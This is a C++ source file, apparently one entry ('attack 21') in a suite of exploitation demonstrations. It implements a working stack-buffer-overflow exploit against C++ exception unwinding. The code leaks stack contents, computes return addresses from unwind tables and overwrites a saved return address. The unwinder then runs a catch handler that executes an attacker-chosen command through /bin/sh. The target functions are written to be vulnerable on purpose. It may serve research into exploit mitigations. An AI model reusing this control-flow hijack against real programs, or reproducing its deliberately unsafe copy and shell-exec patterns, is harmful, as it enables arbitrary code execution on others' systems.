// throw NAME MARK: attack 21. A record overwrites the frames above the function that then refuses it by an exception. What unwinds for
// the exception believes those frames: it finds its handler where the attacker wants it, and gives it the attacker's words for variables.
#include <alloca.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>

typedef uint64_t word;
extern "C" {
[[noreturn]] void impossible(const char *format, ...);
word need(word address, const char *what);
int function_at(word address, word *start, word *end);
long frame_size(word return_address);
word return_after_call(word start, word end, word target);
}
#define NOINLINE __attribute__((noinline, noclone))

struct Refused {};

static volatile unsigned finished;
static word echoed[128];

// It echoes more of its stack than the record has, and finds out that a record is too long when it has copied it.
NOINLINE static void receive(const word *record, size_t count) {
  word copy[8];
  word *volatile into = copy;
  for (size_t n = 0; n < sizeof echoed / sizeof *echoed; n++) echoed[n] = into[n];
  for (size_t n = 0; n < count; n++) into[n] = record[n];
  if (count > 8) throw Refused();
  finished++;
}

NOINLINE static void check(const char *line) {
  if (strchr(line, '\n')) throw Refused();
  finished++;
}

// A line that is refused is given to the shell, which can say better what is wrong with it.
NOINLINE static int interpret(const char *line) {
  const char *volatile kept = line;
  char first_words[96];
  snprintf(first_words, sizeof first_words, "%s", line);
  try {
    check(first_words);
  } catch (const Refused &) {
    execl("/bin/sh", "/bin/sh", "-c", kept, static_cast<char *>(nullptr));
    return 1;
  }
  finished++;
  return 0;
}

// `scratch` is what the sender says that it needs: how far the record lies below serve()'s frame is the sender's choice.
NOINLINE static int converse(const word *record, size_t count, size_t scratch) {
  volatile char *room = static_cast<volatile char *>(alloca(scratch + 16));
  room[0] = 0;
  try {
    receive(record, count);
  } catch (const Refused &) {
    finished++;
  }
  return room[0];
}

NOINLINE static int serve(const word *record, size_t count, size_t scratch, const char *line) {
  if (line) return interpret(line) + static_cast<int>(finished);
  return converse(record, count, scratch) + static_cast<int>(finished);
}

static word after_call(word caller, word target, const char *what) {
  word start, end;
  if (!function_at(caller + 1, &start, &end)) impossible("no unwind table for %s", what);
  return need(return_after_call(start, end, target), what);
}

// How many words behind the record a value lies.
static size_t place_of(word value, const char *what) {
  for (size_t n = 8; n < sizeof echoed / sizeof *echoed; n++)
    if (echoed[n] == value) return n;
  impossible("no %s", what);
}

static char line[512];

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  const bool joined = !strcmp(argv[1], "throw-joined");
  snprintf(line, sizeof line, "echo %s >%s", argv[1], argv[2]);
  static word record[512];
  serve(record, 1, 0, nullptr);
  const word to_converse = after_call(reinterpret_cast<word>(converse), reinterpret_cast<word>(receive), "converse");
  const word returns_to_serve = after_call(reinterpret_cast<word>(serve), reinterpret_cast<word>(converse), "serve");
  const word handler = after_call(reinterpret_cast<word>(interpret), reinterpret_cast<word>(check), "interpret");
  const long frame = frame_size(handler);
  if (frame < 8) impossible("the frame of interpret() is of unknown size");

  const size_t slot = place_of(to_converse, "return address behind the record");
  const size_t count = slot + static_cast<size_t>(frame) / 8;
  for (size_t n = 0; n < count; n++) record[n] = reinterpret_cast<word>(line); // variables and saved registers alike
  record[slot] = handler;
  if (!joined) {
    record[count] = 0;
    serve(record, count + 1, 0, nullptr);
    return 1;
  }
  // interpret()'s frame must end where converse()'s does: the scratch memory makes up for what it is smaller, and the return address
  // behind it is that from serve()'s call of interpret().
  record[count] = after_call(reinterpret_cast<word>(serve), reinterpret_cast<word>(interpret), "serve");
  const size_t distance = place_of(returns_to_serve, "return address into serve()");
  if (distance > count) impossible("converse()'s frame is larger than interpret()'s: %zu words", distance - count);
  serve(record, count + 1, 8 * (count - distance), nullptr);
  return 1;
}
